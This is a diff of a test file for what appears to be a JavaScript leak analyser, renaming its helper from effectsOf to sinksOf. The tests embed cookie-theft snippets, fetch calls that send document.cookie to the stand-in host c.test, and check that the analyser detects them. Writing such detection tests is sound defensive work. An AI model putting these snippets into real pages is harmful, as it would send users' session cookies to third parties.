@@ -1,5 +1,5 @@
 import { describe, expect, test } from "vitest";
-import { effectsOf } from "../testing/trace-of.ts";
+import { sinksOf } from "../testing/trace-of.ts";
 
 /** Each is true on some page, in some browser, at some time. */
 const POSSIBLE = [
@@ -223,9 +223,9 @@ const LEAK = "request fetch > third-party c.test < url cookie (purpose)";
 
 describe("conditions", () => {
 	test.each(POSSIBLE)("what hangs on %s is seen", (condition) => {
-		expect(effectsOf(`if (${condition}) { fetch("https://c.test/" + document.cookie); }`)).toEqual([LEAK]);
-		expect(effectsOf(`(${condition}) && fetch("https://c.test/" + document.cookie)`)).toEqual([LEAK]);
-		expect(effectsOf(`fetch("https://c.test/" + ((${condition}) ? document.cookie : ""))`)).toEqual([LEAK]);
+		expect(sinksOf(`if (${condition}) { fetch("https://c.test/" + document.cookie); }`)).toEqual([LEAK]);
+		expect(sinksOf(`(${condition}) && fetch("https://c.test/" + document.cookie)`)).toEqual([LEAK]);
+		expect(sinksOf(`fetch("https://c.test/" + ((${condition}) ? document.cookie : ""))`)).toEqual([LEAK]);
 	});
 
 	test.each([
@@ -241,13 +241,13 @@ describe("conditions", () => {
 		"(function f() { if (arguments.callee === f) { LEAK } })();",
 	])("what may run is seen: %s", (code) => {
 		const leak = 'fetch("https://c.test/" + document.cookie)';
-		expect(effectsOf(code.replace("LEAK_VALUE", leak).replace("LEAK", `${leak};`))).toContainEqual(
+		expect(sinksOf(code.replace("LEAK_VALUE", leak).replace("LEAK", `${leak};`))).toContainEqual(
 			expect.stringContaining("request fetch > third-party c.test < url cookie"),
 		);
 	});
 
 	test.each(IMPOSSIBLE)("what hangs on %s never runs", (condition) => {
-		expect(effectsOf(`if (${condition}) { fetch("https://c.test/" + document.cookie); }`)).toEqual([]);
-		expect(effectsOf(`(${condition}) || fetch("https://c.test/" + document.cookie)`)).toEqual([LEAK]);
+		expect(sinksOf(`if (${condition}) { fetch("https://c.test/" + document.cookie); }`)).toEqual([]);
+		expect(sinksOf(`(${condition}) || fetch("https://c.test/" + document.cookie)`)).toEqual([LEAK]);
 	});
 });
